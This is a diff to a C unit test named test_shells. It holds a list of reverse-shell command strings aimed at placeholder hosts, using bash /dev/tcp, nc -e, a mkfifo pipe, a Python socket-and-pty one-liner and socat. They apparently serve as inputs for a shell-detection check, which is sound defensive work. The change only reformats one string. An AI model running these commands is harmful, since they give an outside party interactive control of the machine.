@@ -352,8 +352,8 @@ static void test_shells(void **state)
 		"exec 5<>" TCP "h/1; sh <&5 >&5",
 		"nc -e /bin/sh 1.2.3.4 5",
 		"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 1 > /tmp/f",
-		"python -c 'import socket,os; s=socket.socket(); s.connect((\"h\",1)); "
-		"os.dup2(s.fileno(),0); pty.spawn(\"/bin/sh\")'",
+		("python -c 'import socket,os; s=socket.socket(); s.connect((\"h\",1)); "
+		 "os.dup2(s.fileno(),0); pty.spawn(\"/bin/sh\")'"),
 		"socat tcp:h:1 exec:/bin/sh,pty",
 	};
 	static const char *const good[] = {
